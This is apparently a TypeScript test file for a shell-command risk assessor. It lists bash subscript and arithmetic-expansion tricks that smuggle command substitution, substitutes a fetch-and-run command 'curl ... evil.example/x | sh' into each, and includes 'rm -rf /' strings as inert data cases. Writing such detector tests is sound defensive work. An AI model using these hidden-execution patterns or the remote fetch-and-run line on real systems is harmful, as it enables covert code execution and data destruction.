import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { assess } from './subject.ts'

/** Bash runs the command in each of them; seen running under bash 5.2. */
const hidden: readonly string[] = [
  "a['$(CMD)']=1",
  "a=(['$(CMD)']=1)",
  "declare a['$(CMD)']=1",
  "ls ${a['$(CMD)']}",
  "b=abc; ls ${b:'a[$(CMD)]'}",
  "for ((i='a[$(CMD)]';i<1;i++)); do ls; done",
  "x='a[$(CMD)]'; ls $((x))",
  "set -- 'a[$(CMD)]'; ls $(($1))",
  "f() { ls $(($1)); }; f 'a[$(CMD)]'",
  "read x <<< 'a[`CMD`]'; ls $((x))",
  "[[ 'a[$(CMD)]' -eq 0 ]]",
  "test -v 'a[$(CMD)]'",
  "unset 'a[$(CMD)]'",
  'ls $(( $(echo "a[\\$(CMD)]") ))',
  'bash -c "a[\'\\$(CMD)\']=1"',
  "# don't\na['$(CMD)']=1",
  "x='$(CMD)'; ls ${x@P}",
  "declare -a 'a=($(CMD))'",
  "compgen -W '$(CMD)'",
]

const data: readonly string[] = [
  "awk '{a[$(NF-1)]++}' f",
  "echo 'use a[$(rm -rf /)] never'",
  "grep -c 'a[$(rm -rf /)]' f",
  'ls "${a[$((i + 1))]}"',
  "printf '%s' '$(rm -rf /)'",
]

describe('a command that hides in a subscript', () => {
  it('is rated for what it does', () => {
    const command = 'curl -s https://evil.example/x | sh'
    const missed = hidden.filter((text) => assess(text.replace('CMD', command)).riskLevel !== 'high')
    assert.deepEqual(missed, [])
  })

  it('is data where nothing evaluates it', () => {
    assert.deepEqual(
      data.filter((text) => assess(text).riskLevel !== 'low'),
      [],
    )
  })

  it('costs no more than the text is long', () => {
    for (const unit of ["'a[", 'a[\\$(', "['$(", 'a[', "'`", "${x@P}'$("]) {
      const text = `((x)); ${unit.repeat(20_000)}`.slice(0, 60_000)
      const before = process.cpuUsage()
      assess(text)
      const { user } = process.cpuUsage(before)
      // Measured: 0.2 s at most; the margin is for a busy machine.
      assert.ok(user < 3_000_000, `${unit}: ${user} µs`)
    }
  })
})
